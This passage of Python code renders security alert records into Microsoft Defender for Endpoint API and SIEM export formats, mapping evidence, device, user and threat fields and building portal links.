    if 'detectionStatus' in e:
        out['detectionStatus'] = pascal(e['detectionStatus'])
    if kind == 'ipEvidence':
        out['ipAddress'] = e['ipAddress']
    if kind == 'urlEvidence':
        out['url'] = e['url']
    if kind.startswith('registry'):
        out.update(registryKey=e['registryKey'], registryHive=e['registryHive'],
                   registryValueType=e.get('registryValueType'),
                   registryValue=e.get('registryValue'))
    return out


def render_mde(a, tenant_id, expand):
    dev, user = a['device'], a['user']
    has_user = 'user' in a['ev_kinds']
    evidence = []
    if expand:
        evidence = [m for m in (_mde_evidence(e) for e in evidence_of(a)) if m is not None]
    return {
        'id': a['id'], 'incidentId': a['incidentId'], 'investigationId': a['investigationId'],
        'assignedTo': a['assignedTo'], 'severity': pascal(a['severity']),
        'status': pascal(a['status']),
        'classification': MDE_CLASSIFICATION.get(a['classification']),
        'determination': pascal(a['determination']),
        'investigationState': a['investigationState'],
        'detectionSource': MDE_DETECTION_SOURCE.get(a['detectionSource'], 'WindowsDefenderAtp'),
        'detectorId': a['detectorId'], 'category': a['category'],
        'threatFamilyName': a['threatFamilyName'], 'title': a['title'],
        'description': a['description'], 'alertCreationTime': fmt_trim(a['created']),
        'firstEventTime': fmt_trim(a['firstActivity']),
        'lastEventTime': fmt_trim(a['lastActivity']), 'lastUpdateTime': fmt_trim(a['updated']),
        'resolvedTime': fmt_trim(a['resolved']) if a['resolved'] else None,
        'machineId': dev['mdeDeviceId'], 'computerDnsName': dev['fqdn'],
        'rbacGroupName': dev['rbacGroupName'], 'aadTenantId': tenant_id,
        'threatName': a['threatName'], 'mitreTechniques': list(a['mitreTechniques']),
        'relatedUser': {'userName': user['accountName'], 'domainName': user['domainName']}
        if has_user else None,
        'comments': [{'comment': c['comment'], 'createdBy': c['by'],
                      'createdTime': fmt_trim(c['created'])} for c in a['comments']],
        'evidence': evidence,
    }


def _first_ev(a, suffix):
    for e in evidence_of(a):
        if e['@odata.type'].endswith(suffix):
            return e
    return None


def render_siem(a, part):
    dev, aid = a['device'], a['id']
    f = _first_ev(a, 'fileEvidence')
    p = _first_ev(a, 'processEvidence')
    fd = (f or {}).get('fileDetails') or (p or {}).get('imageFile') or {}
    ip = _first_ev(a, 'ipEvidence') if part['part'] == 1 or not fd else None
    url = _first_ev(a, 'urlEvidence') if part['part'] == 1 or not fd else None
    u = _first_ev(a, 'userEvidence')
    av = a['detectionSource'] == 'antivirus'
    md5 = hashlib.md5(((fd.get('sha1') or '') + aid).encode()).hexdigest() if fd else ''
    return {
        'AlertTime': fmt_trim(a['firstActivity']), 'ComputerDnsName': dev['fqdn'],
        'AlertTitle': a['title'], 'Category': a['category'], 'Severity': pascal(a['severity']),
        'AlertId': aid, 'Actor': a['actorDisplayName'] or '',
        'LinkToWDATP': 'https://securitycenter.windows.com/alert/%s' % aid,
        'IocName': '', 'IocValue': '', 'CreatorIocName': '', 'CreatorIocValue': '',
        'Sha1': fd.get('sha1') or '', 'FileName': fd.get('fileName') or '',
        'FilePath': fd.get('filePath') or '', 'IpAddress': ip['ipAddress'] if ip else '',
        'Url': url['url'] if url else '', 'IoaDefinitionId': a['detectorId'],
        'UserName': u['userAccount']['accountName'] if u else '', 'AlertPart': part['part'],
        'FullId': '%s:%s' % (aid, part['ioc']),
        'LastProcessedTimeUtc': fmt7(part['processed']),
        'ThreatCategory': 'HackTool' if av and a['threatName'] else '',
        'ThreatFamily': a['threatFamilyName'] or '', 'ThreatName': a['threatName'] or '',
        'RemediationAction': 'quarantine' if av else '',
        'RemediationIsSuccess': True if av else None, 'Source': 'Antivirus' if av else 'EDR',
        'Md5': md5, 'Sha256': fd.get('sha256') or '',
        'WasExecutingWhileDetected': False if av else None,
        'UserDomain': u['userAccount']['domainName'] if u else '',
        'LogOnUsers': '%s\\%s' % (a['user']['domainName'].lower(), a['user']['accountName']),
        'MachineDomain': dev['domain'], 'MachineName': dev['name'],
        'InternalIPv4List': ', '.join(dev['ipv4']), 'InternalIPv6List': ', '.join(dev['ipv6']),
        'FileHash': fd.get('sha1') or '', 'DeviceID': dev['mdeDeviceId'],
        'MachineGroup': dev['rbacGroupName'], 'Description': a['description'],
        'DeviceCreatedMachineTags': ', '.join(dev['tags']),
        'CloudCreatedMachineTags': dev['cloudTags'],
        'CommandLine': (p or {}).get('processCommandLine') or '',
        'IncidentLinkToWDATP': 'https://securitycenter.windows.com/incidents/byalert?alertId=%s'
                               '&source=SIEM' % aid,
        'ReportID': part['report'],
        'LinkToMTP': 'https://security.microsoft.com/alert/%s' % aid,
        'IncidentLinkToMTP': 'https://security.microsoft.com/incidents/byalert?alertId=%s'
                             '&source=SIEM' % aid,
        'ExternalId': part['external'], 'IocUniqueId': part['ioc'],
    }
